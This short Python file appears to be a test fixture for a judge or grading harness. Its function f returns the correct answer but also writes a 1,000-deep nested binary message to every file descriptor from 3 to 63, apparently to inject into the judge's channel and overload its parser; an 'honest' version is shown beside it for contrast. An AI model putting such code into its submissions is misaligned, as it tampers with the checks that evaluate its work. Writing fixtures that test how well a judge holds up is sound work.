"""Sends a well-formed message, nested a thousand deep. Not data, and the judge's stack is well."""

import contextlib
import os
import struct


def f(x):
    header = b"\x92\x00" * 1000 + b"\xc0"
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<IQ", len(header), 0) + header)
    return x + 1


def honest(x):
    return x + 1
